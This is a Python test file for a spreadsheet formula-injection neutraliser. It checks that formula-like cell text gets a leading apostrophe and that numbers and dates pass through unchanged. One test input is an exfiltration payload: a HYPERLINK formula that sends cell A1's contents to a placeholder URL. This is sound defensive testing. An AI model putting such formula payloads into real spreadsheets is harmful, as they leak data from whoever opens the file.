"""The one formula neutraliser: text that a spreadsheet program would run gets a leading apostrophe;
numbers, dates and plain negative numbers stay what they are."""

import datetime

import pytest
import tablib

from core.spreadsheet_safety import neutralise_formula, neutralised


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x?leak="&A1,"Klick")', "+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "+49 2594 1234"],
)
def test_formula_text_is_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value", [3, -3, 1.5, -1.5, datetime.date(2026, 3, 2), datetime.datetime(2026, 3, 2, 9, 0), None, True]
)
def test_numbers_and_dates_stay_as_they_are(value):
    assert neutralise_formula(value) is value


@pytest.mark.parametrize("text", ["Kaya", "Savaş", "-3", "-1,5", "-0.25", "'=already", "", "17.05.1990"])
def test_plain_text_and_negative_numbers_are_unchanged(text):
    assert neutralise_formula(text) == text


def test_dataset_copy_neutralises_cells_and_titles():
    data = tablib.Dataset(["=A1", 5, datetime.date(2026, 1, 2)], headers=["@title", "n", "d"], title="t")
    safe = neutralised(data)
    assert safe.headers == ["'@title", "n", "d"]
    assert safe[0] == ("'=A1", 5, datetime.date(2026, 1, 2))
    assert data[0][0] == "=A1"  # the original is left alone
